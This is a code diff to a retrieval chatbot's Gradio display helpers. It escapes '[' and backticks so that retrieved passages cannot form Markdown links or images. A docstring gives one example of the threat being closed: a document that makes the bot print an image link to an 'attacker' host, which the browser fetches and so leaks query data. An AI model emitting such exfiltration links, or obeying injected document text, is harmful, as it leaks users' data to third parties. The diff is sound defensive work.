@@ -28,11 +28,13 @@ def text_of(content) -> str:
 
 
 def history_messages(history: list | None) -> list[dict]:
-    """Gradio's chat history as the chain's [{"role", "content": str}]."""
+    """Gradio's chat history as the chain's [{"role", "content": str}], as the people wrote it.
+
+    The page shows messages escaped (shown_text); the chain must see "&" and "<", not "&amp;"."""
     out = []
     for m in history or []:
         if isinstance(m, dict) and m.get("role") in ("user", "assistant"):
-            out.append({"role": m["role"], "content": text_of(m.get("content"))})
+            out.append({"role": m["role"], "content": html.unescape(text_of(m.get("content")))})
     return out
 
 
@@ -44,8 +46,17 @@ def error_text(err) -> str:
 
 
 def shown_text(text: str) -> str:
-    """A message or answer as it is put in a chat bubble: escaped, so markup shows as text."""
-    return html.escape(text, quote=False)
+    """A message, answer or passage as the page shows it: escaped, so markup shows as text.
+
+    "[" becomes an entity too, so no Markdown link or image forms: a document could otherwise
+    make the bot print `![](https://attacker/?q=...)`, which the browser would fetch unasked.
+    html.unescape gives the original back."""
+    return html.escape(text, quote=False).replace("[", "&#91;")
+
+
+def _code(text: str) -> str:
+    """Text for inside a `code span`: escaped, and with no backtick that could end the span early."""
+    return html.escape(text.replace("`", "'"), quote=False)
 
 
 def sources_markdown(answer: dict | None) -> str:
@@ -54,7 +65,7 @@ def sources_markdown(answer: dict | None) -> str:
         return "_Sources of the last answer appear here._"
     parts = []
     if answer.get("flagged"):
-        values = ", ".join(f"`{html.escape(v)}`" for v in answer["flagged"])
+        values = ", ".join(f"`{_code(v)}`" for v in answer["flagged"])
         what = "replaced by a quote of the passage" if answer.get("kind") == "fallback" else "shown as written"
         parts.append(f"⚠️ **Not found in the cited passages:** {values} (the model's answer was {what}).")
     if answer.get("refused"):
@@ -62,9 +73,9 @@ def sources_markdown(answer: dict | None) -> str:
     if not answer.get("sources"):
         parts.append("_No passages were used for this reply._")
     for s in answer.get("sources", []):
-        where = html.escape(s["source"]) + (f" › {html.escape(s['section'])}" if s.get("section") else "")
+        where = _code(s["source"]) + (f" › {_code(s['section'])}" if s.get("section") else "")
         mark = " · **cited**" if s.get("cited") else ""
-        passage = html.escape(s.get("text", "")).strip().replace("\n", "\n> ")
+        passage = shown_text(s.get("text", "")).strip().replace("\n", "\n> ")
         parts.append(f"**[{s['n']}]** `{where}` (score {s.get('score', 0):.2f}){mark}\n> {passage}")
     return "\n\n".join(parts)
 
